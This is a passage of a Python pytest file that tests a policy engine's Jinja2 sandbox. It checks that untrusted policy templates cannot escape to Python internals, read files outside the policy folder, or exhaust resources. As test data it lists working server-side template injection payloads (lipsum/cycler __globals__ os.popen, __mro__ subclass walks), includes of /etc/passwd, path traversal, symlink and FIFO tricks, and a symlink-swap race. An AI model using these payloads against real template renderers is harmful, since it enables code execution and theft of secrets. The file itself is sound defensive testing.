"""Issue 11.1 and 11.3 (files): a policy's templates are untrusted data.

A policy's `templates:` overrides render in `engine.language.templating.PolicyEnvironment` (jinja2's immutable
sandbox, stricter), with every cost bounded; `validate` refuses a template that would reach Python
internals, an unknown name, or a file; a file a policy names (a template, its `source_text`) is read
only from inside the policy's folder and only if it is a regular file; a device or FIFO given as the
policy itself is refused before it is read.

Each probe is tried two ways where that makes sense: through `load_policy` / `validate` (refused with
the policy file's line and column), and -- defence in depth -- rendered from a policy object whose
templates were never validated (`_unchecked`), where it must end in a `RenderError`, never run, read
or hang. "Bounded" is asserted by what stops the work, never by how long it took: a limit's refusal, with the
render budget's clock standing still (`_Clock`) so that only the limit can refuse, and the budget checks made before
it counted; the time budget itself with a clock that jumps past it; a file refused by what is opened at all.
`no_hang` turns a guard that regressed into a hang into a failure; it measures nothing.
"""

from __future__ import annotations

import dataclasses
import json
import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import POLICY_PATH, ROOT, claim, item, no_hang

import engine
from engine.cli import main
from engine.core.errors import PolicyError
from engine.explaining.render import RenderError, explain, render_report, renderer
from engine.language import templating
from engine.language.source import read_text

#: Budget checks (`RenderBudget` reading its clock: at every loop iteration, call, attribute, filter, operator and
#: output chunk) a probe refused by a limit of size or depth may make first: the most, `output`'s, are 10,002 (its
#: 10,000 iterations run before their output is counted).
STEPS = 20_000


# --- helpers --------------------------------------------------------------------------------------------


def _folder(tmp_path: Path) -> Path:
    d = tmp_path / "policy"
    d.mkdir(exist_ok=True)
    if not (d / "texts").exists():
        shutil.copytree(POLICY_PATH.parent / "texts", d / "texts")
    return d


def _write(tmp_path: Path, templates: str, name: str = "p.yaml", base: str | None = None) -> Path:
    """The Pinggu policy with a `templates:` section (YAML text, indented under `templates:`)."""
    d = _folder(tmp_path)
    path = d / name
    path.write_text((base or POLICY_PATH.read_text(encoding="utf-8")) + "\ntemplates:\n" + templates, encoding="utf-8")
    return path


def _problems(path: Path) -> list[engine.Problem]:
    with pytest.raises(PolicyError) as err:
        engine.load_policy(path)
    return err.value.problems


def _line_of(path: Path, needle: str) -> int:
    for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
        if needle in line:
            return n
    raise AssertionError(needle)


@pytest.fixture(scope="module")
def decision(policy: engine.CompiledPolicy) -> engine.Decision:
    return engine.evaluate(policy, claim(item("pledge_loan_interest", "c1", annual_interest_paid="500000.00"), claim_id="T-1"))


def _unchecked(policy: engine.CompiledPolicy, source: str, name: str = "explain.txt.j2", **more: str) -> engine.CompiledPolicy:
    """The policy with a template override that never went through `load_policy` (its checks bypassed)."""
    return dataclasses.replace(policy, templates={"all": {name: source, **more}})


def _render(policy: engine.CompiledPolicy, decision: engine.Decision, fmt: str = "text") -> str:
    return explain(policy, decision, "zh", fmt)


class _Clock:
    """The clock a render budget reads, put in place of `templating.time` (`RenderBudget` reads `time.monotonic()`
    once for its deadline, then at every check). Its n-th reading is `reading(n)` (by default 0.0: time stands
    still); `reads` counts them. Read more than `most` times, it raises an AssertionError: the render went on past
    where the test expects it stopped (the renderer reports the error in its RenderError, so the test's match on the
    refusal it expects fails, instead of the render running on)."""

    def __init__(self, reading: Callable[[int], float] = lambda n: 0.0, most: int = STEPS) -> None:
        self.reading = reading
        self.most = most
        self.reads = 0

    def monotonic(self) -> float:
        self.reads += 1
        if self.reads > self.most:
            raise AssertionError(f"the render budget's clock read {self.reads} times: the render went on past its stop")
        return self.reading(self.reads)


def _refused_at_render(
    policy: engine.CompiledPolicy,
    decision: engine.Decision,
    source: str,
    match: str,
    name: str = "explain.txt.j2",
    clock: _Clock | None = None,
) -> str:
    """The RenderError of `source` rendered unchecked, which must match `match`. The budget reads `clock`, by default
    one standing still: the time budget never runs out, so a refusal is the limit's own (on any machine), and a render
    no limit stops is stopped by `_Clock` at its STEPS + 1st budget check."""
    unchecked = _unchecked(policy, source, name)
    fmt = {"explain.txt.j2": "text", "explain.md.j2": "md", "explain.html.j2": "html"}[name]
    with pytest.MonkeyPatch.context() as patch, no_hang():
        patch.setattr(templating, "time", clock if clock is not None else _Clock())
        with pytest.raises(RenderError, match=match) as err:
            _render(unchecked, decision, fmt)
    assert str(err.value).startswith("policy template")
    return str(err.value)


def _opens(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """Every path `os.open` is asked to open from now on (opened all the same): `_read_regular`
    (engine.language.source) opens a file only after its `stat` says it is a regular file."""
    opened: list[Path] = []
    real = os.open

    def spy(path: Any, *args: Any, **kwargs: Any) -> int:
        at = kwargs.get("dir_fd")  # (a file of the policy's folder is opened from it, one name at a time)
        opened.append(Path(os.readlink(f"/proc/self/fd/{at}"), os.fsdecode(path)) if at is not None else Path(os.fsdecode(path)))
        return real(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", spy)
    return opened


# --- the issue's payload: never runs, refused by validate with its position -------------------------------

PAYLOADS = {
    "lipsum": "{{{{ lipsum.__globals__['os'].popen('touch {marker}').read() }}}}",
    "cycler": "{{{{ cycler.__init__.__globals__.os.popen('touch {marker}').read() }}}}",
    "joiner": "{{{{ joiner.__init__.__globals__.os.popen('touch {marker}').read() }}}}",
    "namespace": "{{{{ namespace.__init__.__globals__.os.popen('touch {marker}').read() }}}}",
    "self": "{{{{ self.__init__.__globals__.__builtins__.__import__('os').popen('touch {marker}').read() }}}}",
    "attr filter": "{{{{ (lipsum|attr('__globals__'))['os'].popen('touch {marker}').read() }}}}",
    "string escapes": "{{{{ (lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].popen('touch {marker}').read() }}}}",
    "engine function": "{{{{ label.__globals__['os'].popen('touch {marker}').read() }}}}",
    "mro": "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "format": "{{{{ '{{0.__class__.__mro__}}'.format(d) }}}}",
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_the_issue_payload_is_refused_by_validate_and_lint_with_its_line(
    tmp_path: Path, payload: str, capsys: pytest.CaptureFixture[str]
) -> None:
    marker = tmp_path / "pwned"
    source = payload.format(marker=marker)
    path = _write(tmp_path, "  all:\n    explain.txt.j2: " + json.dumps(source) + "\n")
    line = _line_of(path, "explain.txt.j2:")
    problems = _problems(path)
    assert problems and all(p.path == ("templates", "all", "explain.txt.j2") and p.line == line for p in problems)
    assert all(p.column == 21 for p in problems)  # the value's column
    assert main(["validate", str(path)]) == 1
    assert main(["lint", str(path)]) != 0
    assert main(["explain", "--policy", str(path), str(ROOT / "examples" / "claim_enterprise_2021.json")]) == 1
    err = capsys.readouterr().err
    assert f"{path}:{line}:21: templates.all.explain.txt.j2: template 'explain.txt.j2': line 1 of the template" in err
    assert "Traceback" not in err
    assert not marker.exists()


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_the_issue_payload_does_not_run_even_unvalidated(
    policy: engine.CompiledPolicy, decision: engine.Decision, tmp_path: Path, payload: str
) -> None:
    marker = tmp_path / "pwned"
    # refused, or dead on arrival: jinja2's globals are gone, so `lipsum|attr(...)` is an undefined value's attribute
    _refused_at_render(policy, decision, payload.format(marker=marker), r"is undefined|is not allowed|has no attribute '__globals__'")
    assert not marker.exists()


def test_the_payload_in_report_html_through_batch_is_a_load_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    marker = tmp_path / "pwned"
    path = _write(tmp_path, f"  all:\n    report.html.j2: \"{{{{ cycler.__init__.__globals__.os.popen('touch {marker}') }}}}\"\n")
    out = tmp_path / "out"
    assert main(["batch", "--policy", str(path), str(ROOT / "examples" / "round_2021.jsonl"), "--out", str(out), "--quiet"]) == 1
    assert "templates.all.report.html.j2" in capsys.readouterr().err
    assert not marker.exists() and not out.exists()


# --- Python internals, globals, mutation: refused at render too -----------------------------------------------

INTERNALS = {
    "str class": ("{{ ''.__class__ }}", "'__class__' of a 'str'"),
    "attr filter": ("{{ ''|attr('__class__') }}", "'__class__' of a 'str'"),
    "mro": ("{{ m.__class__.mro() }}", "'__class__' of a 'dict'"),
    "subclasses": ("{{ ().__class__.__base__.__subclasses__() }}", "'__class__' of a 'tuple'"),
    "func_globals": ("{{ kind.func_globals.os }}", "'function object' has no attribute 'func_globals'"),
    "function globals": ("{{ kind.__globals__ }}", "'__globals__' of a 'function'"),
    "bound method self": ("{{ label.__self__ }}", "'__self__' of a 'method'"),
    "dict.get self": ("{{ clause.__self__ }}", "'__self__' of a 'builtin_function_or_method'"),
    "template reference": ("{{ self._TemplateReference__context }}", "'_TemplateReference__context' of a 'TemplateReference'"),
    "item access": ("{{ d['__class__'] }}", "'__class__' of a 'dict'"),
    "map attribute": ("{{ d['items'] | map(attribute='__class__') | list }}", "'__class__' of a 'dict'"),
    "gi_frame": ("{{ (d['items'] | map('string')).gi_frame }}", "'gi_frame' of a 'generator'"),
    "str.format": ("{{ '{0}'.format(1) }}", "'format' of a 'str'"),
    "str padding method": ("{{ 'x'.ljust(1000000000) }}", "'ljust' of a 'str'"),
    "int method": ("{{ (1).to_bytes(8, 'big') }}", "'to_bytes' of a 'int'"),
    "dict mutation": ("{{ m.status.clear() }}", "'clear' of a 'dict'"),
    "list mutation": ("{{ d['items'].append(1) }}", "'append' of a 'list'"),
    "own list mutation": ("{% set x = [1] %}{{ x.append(2) }}", "'append' of a 'list'"),
}


@pytest.mark.parametrize(("source", "match"), INTERNALS.values(), ids=INTERNALS.keys())
def test_python_internals_and_mutation_are_refused_at_render(
    policy: engine.CompiledPolicy, decision: engine.Decision, source: str, match: str
) -> None:
    _refused_at_render(policy, decision, source, match)


def test_jinja2_default_globals_are_gone(policy: engine.CompiledPolicy, decision: engine.Decision) -> None:
    for name in ("range", "lipsum", "cycler", "joiner", "namespace", "dict", "config", "request"):
        _refused_at_render(policy, decision, f"{{{{ {name}() }}}}", f"'{name}' is undefined")
    r = renderer(_unchecked(policy, "x"), "zh")
    assert set(r.env.globals) == templating.GLOBAL_NAMES


def test_the_engines_data_is_not_changed_by_a_template(policy: engine.CompiledPolicy, decision: engine.Decision) -> None:
    catalogue_before = json.dumps(renderer(policy, "zh").m, ensure_ascii=False, sort_keys=True)
    for source in ("{{ m.status.update({'granted': 'x'}) }}", "{{ m.status.pop('granted') }}", "{{ policy.cites.pop() }}"):
        with pytest.raises(RenderError):
            _render(_unchecked(policy, source), decision)
    assert json.dumps(renderer(policy, "zh").m, ensure_ascii=False, sort_keys=True) == catalogue_before


# --- templates reach only template names, never files ---------------------------------------------------------

REACH = {
    "include /etc/passwd": "{% include '/etc/passwd' %}",
    "import ../../x": "{% import '../../x' as x %}",
    "extends /etc/hosts": "{% extends '/etc/hosts' %}",
    "from import": "{% from '/etc/passwd' import x %}",
    "include list": "{% include ['/etc/passwd', '/etc/hosts'] %}",
    "relative into the engine": "{% include 'templates/../../pyproject.toml' %}",
}


@pytest.mark.parametrize("source", REACH.values(), ids=REACH.keys())
def test_include_import_extends_reach_no_file(
    tmp_path: Path, policy: engine.CompiledPolicy, decision: engine.Decision, source: str
) -> None:
    path = _write(tmp_path, "  all:\n    explain.txt.j2: " + json.dumps(source) + "\n")
    [p, *_] = _problems(path)
    assert (
        p.line == _line_of(path, "explain.txt.j2:")
        and "policy template may use the engine's templates and its own overrides only" in p.message
    )
    message = _refused_at_render(policy, decision, source, "no template|none of the templates given were found")
    assert "root:" not in message


def test_a_template_name_must_be_a_constant(tmp_path: Path) -> None:
    path = _write(tmp_path, '  all:\n    explain.txt.j2: "{% include d.claim_id %}"\n')
    [p] = _problems(path)
    assert "named by a quoted constant" in p.message


def test_templates_include_engine_templates_and_their_own_overrides(
    policy: engine.CompiledPolicy, decision: engine.Decision, tmp_path: Path
) -> None:
    path = _write(
        tmp_path,
        "  all:\n"
        '    mine.j2: "{% macro hello(x) %}Hello {{ x }}{% endmacro %}"\n'
        "    explain.txt.j2: |\n"
        "      {% import 'mine.j2' as mine %}\n"
        "      {{ mine.hello(d.claim_id) }}: {{ x.fields[1].value }}\n"
        "    explain.md.j2: \"{% include '_explain_body.html.j2' %}\"\n",
    )
    own = engine.load_policy(path)
    decided = engine.evaluate(own, claim(item("pledge_loan_interest", "c1"), claim_id="T-2"))
    text = _render(own, decided)
    # the explanation model `x` beside the decision's JSON `d` (issue 12); _lines.j2 is gone, its sentences are in `x`
    assert text == "Hello T-2: 北京平谷示例科技有限公司（企业；91110117MA01ABCD1F）\n"  # applicant_line: {name}（{kind}；{id}）
    assert explain(own, decided, "zh", "md").startswith('<section class="explanation" id="explanation">\n<header>\n<h1>')


# --- bounded work: loops, sizes, recursion, time -----------------------------------------------------------------

BOUNDS = {
    "range 10**9": ("{% for i in range(10**9) %}{% endfor %}", "'range' is undefined"),
    "string repetition": ("{{ 'x' * 10**10 }}", r"repeated string of 10000000000 characters .*MAX_OUTPUT_CHARS"),
    "list repetition": ("{{ [1] * 10**9 }}", "MAX_CONTAINER_WEIGHT"),
    "list repetition right": ("{{ 10**9 * [1, 2] }}", "MAX_CONTAINER_WEIGHT"),
    "huge power": ("{{ 2 ** 100000 }}", "MAX_INT_BITS"),
    "huge product": ("{{ (10 ** 300) * (10 ** 300) * (10 ** 300) * (10 ** 300) }}", "MAX_INT_BITS"),
    "printf width": ("{{ '%0999999999d' % 1 }}", "format width"),
    "format filter width": ("{{ '%999999999s'|format('x') }}", "format width"),
    "format filter star": ("{{ '%*s'|format(1000000000, 'x') }}", "no '\\*'"),
    "center": ("{{ 'x'|center(10**9) }}", "centred string"),
    "center literal": ("{{ 'x'|center(1000000000) }}", "centred string"),
    "indent": ("{% set w = 'x'|center(5000) %}{{ (w ~ '\\n')|center(4000)|replace(' ', '\\n')|indent(width=w) }}", "indented string"),
    "replace": ("{% set s = 'x'|center(5000) %}{{ s|replace('', s) }}", "replaced string"),
    "join": ("{% set l = 'x'|center(5000)|list %}{{ l|join(l|join) }}", "joined string"),
    "batch": ("{{ [1]|batch(1000000000, 'x')|list }}", "MAX_SLICES"),
    "slice": ("{{ [1]|slice(1000000000)|list }}", "MAX_SLICES"),
    "tojson indent": ("{{ d|tojson(indent=100000) }}", "tojson"),
    "sum of lists": ("{{ [[1], [2]]|sum(start=[]) }}", "sum\\(\\) adds numbers only"),
    "concat doubling": ("{% macro f(s) %}{{ f(s ~ s) }}{% endmacro %}{{ f('xxxxxxxxxx') }}", "MAX_OUTPUT_CHARS"),
    "plus doubling": ("{% macro f(s) %}{{ f(s + s) }}{% endmacro %}{{ f('xxxxxxxxxx') }}", "MAX_OUTPUT_CHARS"),
    "aliased lists": (
        "{% set a = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10] %}{% set b = [a, a, a, a, a, a, a, a, a, a] %}{% set c = [b, b, b, b, b, b, b, b, b, b] %}"
        "{% set e = [c, c, c, c, c, c, c, c, c, c] %}{% set f = [e, e, e, e, e, e, e, e, e, e] %}{% set g = [f, f, f, f, f, f, f, f, f, f] %}{{ g }}",
        "MAX_CONTAINER_WEIGHT",
    ),
    "recursive macro": ("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}", "MAX_CALL_DEPTH"),
    "recursive loop": ("{% for x in [1] recursive %}{{ loop([1]) }}{% endfor %}", "MAX_CALL_DEPTH"),
    "self include": ("{% include 'explain.txt.j2' %}", "without end"),
    "output": (
        "{% for i in 'x'|center(10000) %}{{ 'y'|center(1000) }}{% endfor %}",
        r"output longer than 5000000 characters \(MAX_OUTPUT_CHARS\)",
    ),
    "macro output": (
        "{% macro f() %}{% for i in 'x'|center(10000) %}{{ 'y'|center(1000) }}{% endfor %}{% endmacro %}{{ f()|length }}",
        "MAX_OUTPUT_CHARS",
    ),
    "strings built, not printed": (
        "{{ ([1] * 1000)|map('center', 1000000)|list|length }}",
        r"add up to more than 50000000 characters \(MAX_BUILT_FACTOR\)",
    ),
    "long text iterated": ("{{ ('x'|center(4000000))|wordwrap(1) }}", "MAX_ITERATED_CHARS"),
    # (wrapping takes n²/width steps: 999,999 characters at width 1 took 13 s, past the 2 s budget, before the limit)
    "long text wrapped": (
        "{{ ('x'|center(999999))|wordwrap(1) }}",
        r"wordwrap\(\) over a text of 999999 characters \(MAX_WRAPPED_CHARS 100000\)",
    ),
    "self extends": ("{% extends 'explain.txt.j2' %}", "nested too deeply"),
    "division by zero": ("{{ 1 / 0 }}", "line 1: division by zero"),
}


@pytest.mark.parametrize(("source", "match"), BOUNDS.values(), ids=BOUNDS.keys())
def test_every_cost_is_bounded_with_a_clean_error(
    policy: engine.CompiledPolicy, decision: engine.Decision, source: str, match: str
) -> None:
    """Each probe is refused by what bounds it (named in the error), with time standing still (the time budget cannot
    be what stopped it) and at most STEPS budget checks made before the refusal."""
    clock = _Clock()
    _refused_at_render(policy, decision, source, match, clock=clock)
    assert 0 < clock.reads <= STEPS


@pytest.mark.parametrize(
    "source",
    [
        "{% for a in 'x'|center(99999) %}{% for b in 'x'|center(99999) %}{% endfor %}{% endfor %}",
        "{% for a in 'x'|center(99999) %}{% for b in 'x'|center(99999) %}{{ b|length }}{% endfor %}{% endfor %}",
        "{% for a in d|string %}{% for b in d|string %}{% for c in d|string %}{% endfor %}{% endfor %}{% endfor %}",
    ],
    ids=["empty nested loops", "nested loops with output", "three nested loops"],
)
def test_nested_loops_stop_at_the_time_budget(policy: engine.CompiledPolicy, decision: engine.Decision, source: str) -> None:
    """Loops of some 10**10 iterations, which only the time budget bounds. The budget's clock reads 0 s when the
    budget is made, then exactly MAX_RENDER_SECONDS (at the deadline, not past it: the loops go on) for 999 checks,
    then 1 ms more: the render is refused at that check, the first past the deadline, and reads the clock no more.
    Neither a shorter budget (refused before it) nor a longer or missing one (read again: `_Clock` fails it) passes."""
    budget = templating.MAX_RENDER_SECONDS
    clock = _Clock(lambda n: 0.0 if n == 1 else budget if n <= 1000 else budget + 0.001, most=1001)
    _refused_at_render(policy, decision, source, r"longer than its budget of 2 s \(MAX_RENDER_SECONDS\)", clock=clock)
    assert clock.reads == 1001


def test_validate_refuses_what_it_can_see(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "  all:\n"
        "    explain.txt.j2: |\n"
        "      {{ d.claim_id }}\n"
        "      {% for i in range(10**9) %}{% endfor %}\n"
        "      {{ d.total | pprint }}\n"
        "    explain.md.j2: |\n"
        "      ok\n"
        "      {% for x in %}\n"
        '    explain.html.j2: "{% do d.update({}) %}"\n',
    )
    by_key = {}
    for p in _problems(path):
        by_key.setdefault(p.path[-1], []).append(p.message)
    txt, md, html = by_key["explain.txt.j2"], by_key["explain.md.j2"], by_key["explain.html.j2"]
    assert txt == ["template 'explain.txt.j2': line 3 of the template: unknown filter 'pprint'"]
    assert md == ["template 'explain.md.j2': line 2 of the template: does not compile: an expression is missing here (found %})"]
    assert html == [
        "template 'explain.html.j2': line 1 of the template: does not compile: unknown tag do "
        "(jinja2's tags are if, for, set, macro, include, import, ...; a block ends with endif, endfor)"
    ]
    path = _write(tmp_path, "  all:\n    explain.txt.j2: |\n      {{ d.claim_id }}\n      {% for i in range(3) %}{% endfor %}\n", "q.yaml")
    [p] = _problems(path)
    assert p.message.startswith(
        "template 'explain.txt.j2': line 2 of the template: unknown name 'range'; a template may use base_value, clause, d, doc"
    )
    assert p.line == _line_of(path, "explain.txt.j2:")


def test_an_unknown_name_in_a_template_says_the_name_meant(tmp_path: Path) -> None:
    # `{{ modle.claim_id }}` and `{{ lable(...) }}` were refused with the list of every name, no nearer word; the
    # explanation model is named x (the author thinks of it as "model"), the decision's JSON d
    from engine.core.i18n import tr

    path = _write(
        tmp_path,
        "  zh:\n    explain.md.j2: |\n      # {{ x.title }}\n      {{ modle.claim_id }}\n      {{ decision.total }}{{ lable('a') }}\n",
    )
    first, second, third = _problems(path)
    assert {(p.path, p.line) for p in (first, second, third)} == {(("templates", "zh", "explain.md.j2"), _line_of(path, "explain.md.j2:"))}
    # explain.md.j2 is given d and x besides the engine's globals (not the report's rows, title, ...)
    names = "base_value, clause, d, doc, engine_version, fact, fact_value, item_cites, "
    names += "item_type, kind, kinds_in_order, label, lang, m, policy, role, roles_in_order, shaping, steps, value, x"
    assert tr(first.message, "zh") == (
        "模板 'explain.md.j2'：模板第 2 行：不认识的名称 'modle'（会显示为空）：解释模型的名称是 x（如 {{ x.claim_id }}），"
        f"决定的 JSON 是 d；模板可以使用 {names}"
    )
    assert tr(second.message, "zh").startswith(
        "模板 'explain.md.j2'：模板第 3 行：不认识的名称 'decision'（会显示为空）：决定的 JSON 的名称是 d"
    )
    assert (
        tr(third.message, "zh")
        == f"模板 'explain.md.j2'：模板第 3 行：不认识的名称 'lable'（会显示为空）：是否想写 label？模板可以使用 {names}"
    )
    assert tr(third.message, "en") == (
        f"template 'explain.md.j2': line 3 of the template: unknown name 'lable' (it would show as nothing): did you mean label? a template may use {names}"
    )
    # `title` is the report's (report.html.j2), not an explanation's: it was let through, and rendered as nothing
    path = _write(tmp_path, "  zh:\n    explain.md.j2: |\n      # {{ title }}\n", "q.yaml")
    [p] = _problems(path)
    assert tr(p.message, "zh") == (
        f"模板 'explain.md.j2'：模板第 1 行：此模板拿不到名称 'title'（会显示为空）：只有 report.html.j2 有它；此模板可以使用 {names}"
    )


def test_every_filter_the_renderer_gives_may_be_used_by_a_policy_template(tmp_path: Path) -> None:
    # docs/explanations.md lists money, percent, fill, md and css; the loader's check knew four, and refused
    # `css` (a printed page's margin text, as _style.css.j2 writes it) as no filter at all
    assert set(renderer(engine.load_policy(POLICY_PATH), "zh").env.filters) >= templating.ENGINE_FILTERS
    path = _write(tmp_path, "  zh:\n    explain.md.j2: \"{{ m.print_page | css(page='page', pages='pages') }}\"\n")
    policy = engine.load_policy(path)
    d = engine.evaluate(policy, claim(item("pledge_loan_interest", "c1", annual_interest_paid="500000.00"), claim_id="T-1"))
    # 第 {page} 页，共 {pages} 页: the texts as CSS strings, the placeholders as counters
    assert explain(policy, d, "zh", "md").strip() == '"第 " counter(page) " 页，共 " counter(pages) " 页"'


def test_the_sign_off_block_may_be_overridden_with_the_words_it_is_included_with(tmp_path: Path) -> None:
    # _sign_off.html.j2 is included `{% with words = x.sign_off %}` (an explanation) and `{% with words = m.sign_off
    # %}` (the report's index); an override reading `words` was refused as an unknown name
    path = _write(tmp_path, '  zh:\n    _sign_off.html.j2: "<p class=so>{{ words.head }}：{{ words.reviewer }}</p>"\n')
    policy = engine.load_policy(path)
    d = engine.evaluate(policy, claim(item("pledge_loan_interest", "c1", annual_interest_paid="500000.00"), claim_id="T-1"))
    page = explain(policy, d, "zh", "html")
    assert "<p class=so>审核签署：审核人</p>" in page


def test_templates_are_size_bounded_at_load(tmp_path: Path) -> None:
    big = "x" * (templating.MAX_TEMPLATE_CHARS + 1)
    [p] = _problems(_write(tmp_path, f"  all:\n    explain.txt.j2: {big}\n"))
    assert p.message == "template 'explain.txt.j2': a template of 50001 characters is longer than the limit of 50000 (MAX_TEMPLATE_CHARS)"
    each = "y" * 45_000
    many = "".join(f"    t{i}.j2: {each}\n" for i in range(5))
    [p] = _problems(_write(tmp_path, "  all:\n" + many, "q.yaml"))
    assert p.message == "the policy's templates add up to 225000 characters, more than the limit of 200000 (MAX_TEMPLATES_CHARS)"
    assert p.path == ("templates",)


# --- message overrides are data, bounded -------------------------------------------------------------------


def test_a_message_override_is_never_compiled(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    payload = f"{{{{ lipsum.__globals__['os'].popen('touch {marker}').read() }}}} {{0.__class__}} {{d.__class__}}"
    path = _write(tmp_path, "  zh:\n    status.granted: " + json.dumps(payload) + "\n")
    own = engine.load_policy(path)
    d = engine.evaluate(own, claim(item("pledge_loan_interest", "c1"), claim_id="T-3"))
    for fmt in ("text", "md", "html"):
        out = explain(own, d, "zh", fmt)
        shown = payload if fmt != "html" else payload.replace("'", "&#39;")
        assert shown in out, fmt
    assert "结论：" + payload in explain(own, d, "zh", "text")
    assert not marker.exists()
    assert renderer(own, "zh").sandboxed is False  # no template of its own: the engine's environment, fast text path
    assert renderer(own, "zh").text_explainer() is not None


def test_a_message_override_is_bounded(tmp_path: Path) -> None:
    path = _write(tmp_path, "  zh:\n    why_facts: " + json.dumps("{facts}" * 21) + "\n    title: " + json.dumps("x" * 2001) + "\n")
    messages = sorted(p.message for p in _problems(path))
    assert messages == [
        "message 'title': 2001 characters, more than the limit of 2000 (MAX_MESSAGE_CHARS)",
        "message 'why_facts': 21 placeholders, more than the limit of 20 (MAX_MESSAGE_PLACEHOLDERS)",
    ]


def test_a_label_field_is_a_language_code_not_an_attribute(policy: engine.CompiledPolicy) -> None:
    sneaky = dataclasses.replace(policy, templates={"en": {"meta.label": "__class__"}})
    with pytest.raises(RenderError, match="meta label '__class__': expected a language code"):
        renderer(sneaky, "en")


# --- files a policy names: inside its folder, regular, bounded ------------------------------------------------


def _fifo(path: Path) -> Path:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs here")
    os.mkfifo(path)
    return path


@pytest.mark.parametrize(
    ("name", "make", "match"),
    [
        ("/etc/passwd", None, "is an absolute path"),
        ("/etc/passwd.j2", None, "is an absolute path"),
        ("../../../etc/passwd", None, "goes up with '..'"),
        ("texts/../../p.j2", None, "goes up with '..'"),
        ("~/x.j2", None, "is an absolute path"),
        ("/dev/zero", None, "is an absolute path"),
        ("link.j2", lambda d: (d / "link.j2").symlink_to("/etc/passwd"), "leads outside the policy's folder"),
        ("zero.j2", lambda d: (d / "zero.j2").symlink_to("/dev/zero"), "leads outside the policy's folder"),
        ("fifo.j2", lambda d: _fifo(d / "fifo.j2"), r"not a regular file \(a FIFO\)"),
        ("dir.j2", lambda d: (d / "dir.j2").mkdir(), r"not a regular file \(a folder\)"),
        ("missing.j2", None, "cannot read file: No such file or directory"),
    ],
)
def test_a_template_path_stays_in_the_policy_folder(
    tmp_path: Path, name: str, make: Any, match: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    d = _folder(tmp_path)
    if make is not None:
        make(d)
    path = _write(tmp_path, f"  all:\n    explain.txt.j2: {name}\n")
    opened = _opens(monkeypatch)
    with no_hang():  # (read, a FIFO waits for a writer and /dev/zero never ends)
        [p] = _problems(path)
    # nothing opened but the policy's own regular files (the policy, its source text) and folders (walked, never
    # read): not the file refused
    assert [o for o in opened if not ((o.is_file() or o.is_dir()) and o.resolve().is_relative_to(d.resolve()))] == []
    assert (p.path, p.line, p.column) == (("templates", "all", "explain.txt.j2"), _line_of(path, "explain.txt.j2:"), 21)
    assert p.message.startswith("template 'explain.txt.j2': ")
    assert re.search(match, p.message), p.message
    assert "root:" not in p.message


def test_a_template_file_in_the_policy_folder_is_read_at_load(tmp_path: Path) -> None:
    d = _folder(tmp_path)
    (d / "bureau").mkdir()
    (d / "bureau" / "explain.txt.j2").write_text("Case {{ d.claim_id }}: {{ d.total | money }}\n", encoding="utf-8")
    path = _write(tmp_path, "  all:\n    explain.txt.j2: bureau/explain.txt.j2\n")
    own = engine.load_policy(path)
    (d / "bureau" / "explain.txt.j2").write_text("{{ lipsum }}", encoding="utf-8")  # changed after loading: not read again
    d1 = engine.evaluate(own, claim(item("pledge_loan_interest", "c1", annual_interest_paid="100000.00"), claim_id="T-4"))
    assert _render(own, d1) == "Case T-4: 50,000.00 元\n"


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="the race is staged through /proc's view of open files (Linux)")
@pytest.mark.parametrize("swapped", ["the file", "its folder"])
def test_a_name_swapped_for_a_link_after_the_check_is_not_followed_out_of_the_folder(
    tmp_path: Path, swapped: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Someone who can write in the policy's folder swaps a template (or the folder holding it) for a link to a
    file outside, between `read_beside`'s check of the resolved path and its opening: the secret is not read."""
    d = _folder(tmp_path)
    (d / "bureau").mkdir()
    template = d / "bureau" / "explain.txt.j2"
    template.write_text("Case {{ d.claim_id }}\n", encoding="utf-8")
    secret = tmp_path / "outside" / "bureau" / "explain.txt.j2"
    secret.parent.mkdir(parents=True)
    secret.write_text("SECRET {{ d.claim_id }}\n", encoding="utf-8")
    path = _write(tmp_path, "  all:\n    explain.txt.j2: bureau/explain.txt.j2\n")
    real_resolve = Path.resolve

    def resolve_then_swap(self: Path, *args: Any, **kwargs: Any) -> Path:
        resolved = real_resolve(self, *args, **kwargs)
        if resolved == real_resolve(template):  # checked inside the folder: now swapped
            if swapped == "the file":
                template.unlink()
                template.symlink_to(secret)
            else:
                template.unlink()
                (d / "bureau").rmdir()
                (d / "bureau").symlink_to(secret.parent)
        return resolved

    monkeypatch.setattr(Path, "resolve", resolve_then_swap)
    [p] = _problems(path)
    monkeypatch.undo()
    assert p.path == ("templates", "all", "explain.txt.j2")
    # the swapped file is a link (not followed: stat'ed as one), the swapped folder a link that does not open
    expected = "not a regular file (a symbolic link" if swapped == "the file" else "cannot read file: "
    assert expected in p.message and "SECRET" not in p.message
    assert template.resolve() == secret  # (the swap happened: by name, the file is the secret now)


@pytest.mark.parametrize(
    ("name", "make", "match"),
    [
        ("/dev/zero", None, "is an absolute path"),
        ("../pinggu.txt", None, "goes up with '..'"),
        ("outside.txt", lambda d: (d / "outside.txt").symlink_to("/etc/passwd"), "leads outside"),
        ("zero.txt", lambda d: (d / "zero.txt").symlink_to("/dev/zero"), "leads outside"),
        ("fifo.txt", lambda d: _fifo(d / "fifo.txt"), r"not a regular file \(a FIFO\)"),
    ],
)
def test_source_text_stays_in_the_policy_folder(tmp_path: Path, name: str, make: Any, match: str, monkeypatch: pytest.MonkeyPatch) -> None:
    d = _folder(tmp_path)
    if make is not None:
        make(d)
    text = POLICY_PATH.read_text(encoding="utf-8")
    original = "source_text: texts/pinggu_ip_measures.zh.txt"
    assert original in text
    path = d / "p.yaml"
